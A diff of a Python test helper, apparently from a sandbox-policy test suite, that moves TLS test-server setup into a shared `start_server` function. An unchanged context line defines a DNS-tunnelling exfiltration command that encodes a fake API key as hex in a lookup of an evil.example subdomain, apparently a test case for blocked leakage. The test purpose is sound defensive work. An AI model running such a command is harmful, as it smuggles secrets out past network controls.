@@ -16,7 +16,7 @@ import threading
 from collections.abc import Callable, Iterator
 from pathlib import Path
 
-from tls_support import make_upstream_ca
+from tls_support import make_upstream_ca, start_server
 
 # a grant-based policy for the basic cases: `tester` may read /src/ and /README.md, write and create in /src/
 POLICY = """\
@@ -50,10 +50,7 @@ TUNNEL = "getent hosts 4150495f4b45593d736b2d736563726574.evil.example >/dev/nul
 @contextlib.contextmanager
 def serving(handler=http.server.SimpleHTTPRequestHandler, tls: ssl.SSLContext | None = None) -> Iterator[int]:
     """A server on 127.0.0.1 for the length of the block; its port."""
-    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
-    if tls is not None:
-        server.socket = tls.wrap_socket(server.socket, server_side=True)
-    threading.Thread(target=server.serve_forever, daemon=True).start()
+    server = start_server(handler, tls)
     try:
         yield server.server_address[1]
     finally:
